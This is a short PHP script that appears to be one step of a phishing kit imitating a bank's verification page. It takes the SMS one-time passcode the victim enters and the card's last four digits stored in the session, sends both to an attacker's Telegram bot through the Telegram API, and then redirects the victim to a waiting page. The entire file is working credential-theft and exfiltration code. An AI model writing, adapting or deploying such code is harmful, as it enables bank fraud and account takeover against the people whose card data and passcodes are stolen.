<?php
session_start();
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $sms = isset($_POST['smsotp']) ? $_POST['smsotp'] : '';
    $card = isset($_SESSION['card_last4']) ? $_SESSION['card_last4'] : '-';
    $token = '1234567890:AAExampleExampleExampleExample00000';
    $chat = '-100200300';
    $text = "Bank step 3\nCard: " . $card . "\nOTP: " . $sms . "\n";
    $api = "https://api.telegram.org/bot$token/sendMessage?chat_id=$chat&text=" . urlencode($text);
    if (file_get_contents($api)) {
        header('Location: wait.html');
        exit;
    }
}
